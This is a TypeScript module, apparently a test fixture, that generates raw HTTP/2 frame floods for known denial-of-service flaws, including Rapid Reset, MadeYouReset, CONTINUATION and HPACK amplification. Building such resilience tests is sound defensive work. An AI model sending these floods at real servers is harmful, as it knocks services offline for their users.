import {
  END_HEADERS,
  END_STREAM,
  FRAMES,
  frame,
  literals,
  requestFields,
  text,
  uint32,
} from './http2-frames.ts';

/** Returns the bytes that a client sends in each round of a flood. */
export type Flood = (round: number) => Buffer;

const REQUEST = END_STREAM | END_HEADERS;
const CANCEL = uint32(8);
const MAX_FRAME = 16_384;
/** Index of the newest entry of the dynamic table, as an indexed field (RFC 7541 sections 2.3.3 and 6.1). */
const NEWEST = 0x80 + 62;

function repeated(count: number, make: (index: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));
}

/** Requests that are each followed by a frame. */
function requests(round: number, after: (stream: number) => Buffer, fields = requestFields()): Buffer {
  return repeated(100, (index) => {
    const stream = 2 * (100 * round + index) + 1;
    return Buffer.concat([frame(FRAMES.headers, REQUEST, stream, fields), after(stream)]);
  });
}

/** A request that begins, and frames that follow it in each later round. */
function afterRequest(flags: number, make: () => Buffer): Flood {
  return (round) =>
    round === 0 ? frame(FRAMES.headers, flags, 1, requestFields({ 'x-upload': '1' })) : repeated(500, make);
}

/** Floods by which clients have exhausted the memory or the processors of servers. */
export const FLOODS: Readonly<Record<string, Flood>> = {
  'requests that it cancels at once (CVE-2023-44487)': (round) =>
    requests(round, (stream) => frame(FRAMES.reset, 0, stream, CANCEL)),
  'requests that it makes the server cancel (CVE-2025-8671)': (round) =>
    requests(round, (stream) => frame(FRAMES.windowUpdate, 0, stream, uint32(0))),
  'data after the end of its requests (CVE-2025-8671)': (round) =>
    requests(round, (stream) => frame(FRAMES.data, 0, stream, Buffer.of(0))),
  'header fields without an end (CVE-2024-27316)': (round) =>
    round === 0
      ? frame(FRAMES.headers, 0, 1, requestFields())
      : frame(FRAMES.continuation, 0, 1, literals({ x: 'y'.repeat(16_000) })),
  'empty CONTINUATION frames': (round) =>
    round === 0
      ? frame(FRAMES.headers, 0, 1, requestFields())
      : repeated(500, () => frame(FRAMES.continuation, 0, 1)),
  'requests without waiting for responses': (round) => requests(round, () => Buffer.alloc(0)),
  'large header fields': (round) =>
    requests(
      round,
      () => Buffer.alloc(0),
      Buffer.concat([requestFields(), literals({ x: 'y'.repeat(16_000) })]),
    ),
  'header fields that are long when they are decompressed': (round) =>
    requests(
      round,
      () => Buffer.alloc(0),
      Buffer.concat([
        requestFields(),
        Buffer.concat([Buffer.of(0x40), text('x'), text('y'.repeat(4_000))]),
        Buffer.alloc(MAX_FRAME - 4_200, NEWEST),
      ]),
    ),
  'SETTINGS frames (CVE-2019-9515)': () =>
    repeated(500, () => frame(FRAMES.settings, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0]))),
  'PING frames (CVE-2019-9512)': () => repeated(500, () => frame(FRAMES.ping, 0, 0, Buffer.alloc(8))),
  'PRIORITY frames (CVE-2019-9513)': (round) =>
    repeated(500, (index) =>
      frame(FRAMES.priority, 0, 2 * (500 * round + index) + 1, Buffer.from([0, 0, 0, 0, 1])),
    ),
  'WINDOW_UPDATE frames': () => repeated(500, () => frame(FRAMES.windowUpdate, 0, 0, uint32(1))),
  'unknown frames': () => repeated(500, () => frame(0xee, 0, 0, Buffer.alloc(8))),
  'empty DATA frames (CVE-2019-9518)': afterRequest(END_HEADERS, () => frame(FRAMES.data, 0, 1)),
  'RST_STREAM frames of one request': afterRequest(REQUEST, () => frame(FRAMES.reset, 0, 1, CANCEL)),
};
